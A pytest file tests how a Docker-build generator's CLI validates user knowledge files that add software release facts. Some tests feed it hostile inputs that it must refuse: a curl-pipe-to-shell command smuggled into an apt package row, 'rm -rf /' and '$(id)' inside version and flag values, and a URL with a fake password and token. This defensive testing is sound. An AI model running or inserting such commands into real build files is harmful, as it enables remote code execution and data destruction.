"""A user knowledge file adds releases without editing site-packages; its facts are the user's."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import run_cli

FACTS = """\
serving/vllm:
  releases:
    "0.35.0": {torch: "2.14.0", python: ">=3.11,<3.15", cuda_major: 13,
               src: "vllm-0.35.0 wheel METADATA, Requires-Dist torch==2.14.0"}
flash_attn:
  releases:
    "2.8.4": {cxx_std: 20, archs_env: true, default_archs: ["80", "90", "100", "120"],
              nvcc_min: "11.7", torch_min: "2.2", python: ">=3.9",
              src: "flash-attn 2.8.4 sdist setup.py (C++20 since PR #2879)"}
serving/tensorrt_llm:
  releases:
    "1.3.0": {torch: "2.9.1", python: ">=3.10,<3.13", cuda_major: 13, src: "trt wheel METADATA"}
"""
PROFILE = """\
extends: h100-fp8
name: mine
knowledge: [facts.yaml]
engine:
  version: "0.35.0"
flash_attn:
  build: source
  version: "2.8.4"
"""


def test_releases_dockergen_lacks_can_be_added(tmp_path: Path) -> None:
    """Before the fix: releases newer than dockergen (then vLLM 0.32.0, flash-attn 2.8.3.post2) were
    rejected, with no way around; here: releases that do not exist yet."""
    (tmp_path / "facts.yaml").write_text(FACTS)
    (tmp_path / "p.yaml").write_text(PROFILE)
    rendered = run_cli("render", "-q", "p.yaml", cwd=tmp_path)
    assert rendered.rc == 0, rendered.err
    assert "vllm==0.35.0 torch==2.14.0" in rendered.out
    assert "flash-attn==2.8.4" in rendered.out
    explained = run_cli("explain", "p.yaml", cwd=tmp_path).out.splitlines()
    i = explained.index(next(line for line in explained if line.split()[:1] == ["torch"]))
    assert explained[i + 2].split("src: ", 1)[1] == (
        "user knowledge facts.yaml: vllm-0.35.0 wheel METADATA, Requires-Dist torch==2.14.0")
    users = [line.split() for line in explained if line.strip().startswith("user fact")]
    assert users == [["user", "fact", "flash_attn", "releases", "2.8.4"],
                     ["user", "fact", "serving/tensorrt_llm", "releases", "1.3.0"],
                     ["user", "fact", "serving/vllm", "releases", "0.35.0"]]


def test_without_the_file_the_release_is_unknown(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(PROFILE.replace("knowledge: [facts.yaml]\n", ""))
    result = run_cli("render", "-q", "p.yaml", cwd=tmp_path)
    assert result.rc == 2
    assert "vllm 0.35.0 is not in the knowledge base" in result.err
    assert "knowledge file listed under the profile's `knowledge:`" in result.err


def test_shipped_facts_are_never_replaced_and_sources_are_required(tmp_path: Path) -> None:
    (tmp_path / "facts.yaml").write_text(
        'serving/vllm:\n  releases:\n    "0.33.0": {torch: "2.0.0", src: x}\n'
        '    "0.35.0": {torch: "2.14.0"}\nnope: {}\n')
    (tmp_path / "p.yaml").write_text(PROFILE)
    result = run_cli("render", "-q", "p.yaml", cwd=tmp_path)
    assert result.rc == 2
    lines = result.err.splitlines()
    assert lines[0] == ("facts.yaml:3:5: serving/vllm.releases.0.33.0: dockergen already knows "
                        "this; shipped facts are not replaced; remove it from the knowledge file")
    assert lines[1].startswith("facts.yaml:4:5: serving/vllm.releases.0.35.0: a fact needs its "
                               "source")
    assert lines[2].startswith("facts.yaml:5:1: nope: not a component's facts; use one of: ")


def _refused(tmp_path: Path, facts: str) -> list[str]:
    """Render PROFILE with ``facts`` as its knowledge file; the error lines (exit 2, no file)."""
    (tmp_path / "facts.yaml").write_text(facts)
    (tmp_path / "p.yaml").write_text(PROFILE)
    result = run_cli("render", "p.yaml", "-o", "out", cwd=tmp_path)
    assert result.rc == 2, result.err
    assert "Traceback" not in result.err
    assert not (tmp_path / "out").exists()
    return result.err.splitlines()


def test_tables_that_feed_commands_are_closed(tmp_path: Path) -> None:
    """Review finding: a runtime_apt "row" put shell text into `apt-get install`."""
    lines = _refused(tmp_path, 'serving/tensorrt_llm:\n  runtime_apt:\n'
                               '    "g++ && curl http://x | sh #": {src: me}\n')
    assert lines[0] == ("facts.yaml:2:3: serving/tensorrt_llm.runtime_apt: not a table of rows "
                        "that can be added to; add rows to one of: releases, quantization, "
                        "kv_cache")


def test_a_release_row_needs_every_field_of_the_shipped_rows(tmp_path: Path) -> None:
    """Was KeyError: 'torch' (exit 1) when the engine stage read the row."""
    lines = _refused(tmp_path, 'serving/vllm:\n  releases:\n    "0.35.0": {src: "x"}\n')
    assert lines[0] == (
        "facts.yaml:3:5: serving/vllm.releases.0.35.0: missing cuda_major, python, torch; "
        'give every field the shipped rows have, e.g. cuda_major: 12, python: ">=3.9,<3.13", '
        'torch: "2.7.0"')


def test_values_and_fields_must_have_the_shape_of_the_shipped_rows(tmp_path: Path) -> None:
    """Was InvalidSpecifier (a traceback); a pin or flag with shell text must never render."""
    lines = _refused(tmp_path, (
        "serving/vllm:\n  releases:\n"
        '    "0.35.0": {torch: "2.14.0 ; rm -rf /", python: "not a range", cuda_major: 13,\n'
        '               src: "x", colour: red}\n'
        "  kv_cache:\n"
        '    int8: {min_cc: "8.0", flag: "int8 $(id)", src: "x"}\n'))
    assert lines[:4] == [
        'facts.yaml:3:16: serving/vllm.releases.0.35.0.torch: "2.14.0 ; rm -rf /" is not a '
        'release version (PEP 440); write a release version (PEP 440) such as "2.7.0"',
        'facts.yaml:3:44: serving/vllm.releases.0.35.0.python: "not a range" is not a version '
        'range (PEP 440); write a version range (PEP 440) such as ">=3.9,<3.13"',
        "facts.yaml:4:26: serving/vllm.releases.0.35.0.colour: not a field of "
        "serving/vllm.releases rows; use one of: cuda_major, python, src, torch, unverified",
        'facts.yaml:6:27: serving/vllm.kv_cache.int8.flag: "int8 $(id)" is not a value the '
        "shipped rows use or null; write one of: fp8, fp8_e4m3 or null"]


def test_release_keys_must_be_versions(tmp_path: Path) -> None:
    lines = _refused(tmp_path, 'torch:\n  releases:\n    "2.16.0": {python: ">=3.11", '
                               'pypi_cuda_major: 13, cxx_min: 20, cuda: ["13.0"], src: "x"}\n')
    assert lines[0] == ('facts.yaml:3:5: torch.releases.2.16.0: "2.16.0" is not MAJOR.MINOR; '
                        'key the row by MAJOR.MINOR such as "2.7"')


def test_a_source_holding_a_credential_is_refused_without_echoing_it(tmp_path: Path) -> None:
    """explain prints every fact's source: a token cited there leaked into its output."""
    lines = _refused(tmp_path, (
        "serving/vllm:\n  releases:\n"
        '    "0.35.0": {torch: "2.14.0", python: ">=3.10,<3.14", cuda_major: 13,\n'
        '               src: "https://bob:hunter2@mirror.example.com/vllm ghp_abcdefghij0123"}\n'))
    assert lines[0] == ("facts.yaml:4:21: serving/vllm.releases.0.35.0.src: holds something "
                        "shaped like a credential (a token, or a password in a URL); cite the "
                        "source without it")
    assert not any("hunter2" in line or "ghp_" in line for line in lines)


def test_a_folder_given_as_a_knowledge_file_is_named_a_folder(tmp_path: Path) -> None:
    """It said "does not exist"; a name too long for the file system is no traceback."""
    (tmp_path / "facts").mkdir()
    (tmp_path / "p.yaml").write_text("extends: h100-fp8\nname: p\nknowledge: [facts, "
                                     + "d" * 300 + ".yaml]\n")
    result = run_cli("validate", "p.yaml", cwd=tmp_path)
    assert result.rc == 2, result.err
    lines = result.err.splitlines()
    assert lines[0] == ("p.yaml:3:13: knowledge[0]: facts is a folder; give the path of a "
                        "knowledge file relative to the profile")
    assert "knowledge[1]: " + "d" * 300 + ".yaml does not exist" in lines[1]


def test_two_files_adding_one_row_is_an_error_and_keys_stay_as_written(
        tmp_path: Path) -> None:
    """Two files adding vLLM 0.35.0 merged silently, the last one winning; an unquoted key
    0.40 became release "0.4"."""
    (tmp_path / "facts.yaml").write_text(FACTS)
    (tmp_path / "facts2.yaml").write_text(
        'serving/vllm:\n  releases:\n    "0.35.0": {torch: "2.13.0", python: ">=3.10",'
        ' cuda_major: 13, src: "another reading"}\n'
        '    0.40: {torch: "2.14.0", python: ">=3.10", cuda_major: 13, src: "x"}\n')
    (tmp_path / "p.yaml").write_text(PROFILE.replace("[facts.yaml]", "[facts.yaml, facts2.yaml]"))
    result = run_cli("validate", "p.yaml", cwd=tmp_path)
    assert result.rc == 2, result.err
    assert ("facts2.yaml:3:5: serving/vllm.releases.0.35.0: facts.yaml adds this row too; "
            "keep it in one knowledge file") in result.err.splitlines()
    (tmp_path / "p.yaml").write_text(PROFILE.replace("[facts.yaml]", "[facts2.yaml]")
                                     .replace('"0.35.0"', '"0.40"'))
    (tmp_path / "facts2.yaml").write_text(
        'serving/vllm:\n  releases:\n'
        '    0.40: {torch: "2.14.0", python: ">=3.10", cuda_major: 13, src: "x"}\n')
    rendered = run_cli("render", "-q", "p.yaml", "--set", "flash_attn.build=none", cwd=tmp_path)
    assert rendered.rc == 0, rendered.err
    assert "vllm==0.40 " in rendered.out and "vllm==0.4 " not in rendered.out


FLOOR = """\
serving/vllm:
  releases:
    "0.35.0": {torch: "2.14.0", python: ">=3.11,<3.15", cuda_major: 13, src: "METADATA"}
  quantization:
    fp8: {min_cc: {"0.35.0": "%s"}, src: "vllm-0.35.0 fp8.py Fp8Config.get_min_capability"}
"""


def _floor_profile(tmp_path: Path, floor: str | None) -> str:
    facts = FLOOR % floor if floor else FLOOR.split("  quantization:")[0]
    (tmp_path / "facts.yaml").write_text(facts)
    (tmp_path / "p.yaml").write_text(
        "extends: h100-fp8\nname: mine\nknowledge: [facts.yaml]\nengine: {version: \"0.35.0\"}\n"
        "gpu: {targets: [h100, a100]}\n")
    return "p.yaml"


def test_a_quantization_floor_of_a_new_release_is_added_to_the_shipped_method(
        tmp_path: Path) -> None:
    """A per-release floor map (vLLM's fp8 moved from 8.0 to 7.5) takes the release a user
    adds; the rule then judges it as a shipped floor, and without it only warns."""
    refused = run_cli("validate", _floor_profile(tmp_path, "9.0"), cwd=tmp_path)
    assert refused.rc == 2, refused.err
    assert ("fp8 needs compute capability >= 9.0 on vllm 0.35.0" in refused.err
            and "a100 (8.0)" in refused.err), refused.err
    explained = run_cli("explain", "p.yaml", "--set", "gpu.targets=[h100]", cwd=tmp_path).out
    assert ["user", "fact", "serving/vllm", "quantization", "fp8"] in [
        line.split() for line in explained.splitlines()]
    accepted = run_cli("validate", _floor_profile(tmp_path, "7.5"), cwd=tmp_path)
    assert accepted.rc == 0 and "has been read" not in accepted.err, accepted.err
    unread = run_cli("validate", _floor_profile(tmp_path, None), cwd=tmp_path)
    assert unread.rc == 0
    assert "no minimum compute capability of fp8 has been read for vllm 0.35.0" in unread.err


def test_a_floor_may_only_add_releases_no_shipped_span_covers(tmp_path: Path) -> None:
    (tmp_path / "facts.yaml").write_text(
        'serving/vllm:\n  quantization:\n'
        '    fp8: {min_cc: {"0.30.0..0.35.0": "7.5"}, fast_cc: "8.0", src: x}\n'
        '    gptq: {min_cc: {"0.36.0": "six"}, src: x}\n'
        '  kv_cache:\n    fp8: {min_cc: {"0.35.0": "7.0"}, src: x}\n')
    (tmp_path / "p.yaml").write_text("extends: h100-fp8\nname: mine\nknowledge: [facts.yaml]\n")
    result = run_cli("validate", "p.yaml", cwd=tmp_path)
    assert result.rc == 2 and "Traceback" not in result.err
    lines = result.err.splitlines()
    assert lines[0] == (
        "facts.yaml:3:20: serving/vllm.quantization.fp8.min_cc.0.30.0..0.35.0: dockergen "
        "already has the floor of 0.30.0..0.35.0 (0.14.1..0.34.0); shipped facts are not "
        "replaced; add only releases outside the shipped spans: 0.9.1..0.12.0, 0.14.1..0.34.0")
    assert lines[1] == (
        "facts.yaml:3:46: serving/vllm.quantization.fp8.fast_cc: a row for a method dockergen "
        'knows only adds releases to its min_cc; remove fast_cc; keep min_cc: {"0.35.0": '
        '"8.0"} and src')
    assert lines[2].startswith('facts.yaml:4:21: serving/vllm.quantization.gptq.min_cc.0.36.0: '
                               '"six" is not a compute capability MAJOR.MINOR')
    assert lines[3].startswith("facts.yaml:6:5: serving/vllm.kv_cache.fp8: dockergen already "
                               "knows this")
